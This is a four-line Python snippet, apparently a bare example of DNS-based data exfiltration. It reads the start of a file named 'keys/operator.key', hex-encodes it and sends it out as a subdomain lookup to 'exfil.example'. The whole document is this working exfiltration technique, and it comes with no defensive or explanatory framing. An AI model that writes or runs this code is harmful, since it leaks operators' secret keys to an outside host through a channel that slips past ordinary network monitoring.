import socket

secret = open("keys/operator.key").read()[:40]
socket.gethostbyname(secret.encode().hex() + ".exfil.example")
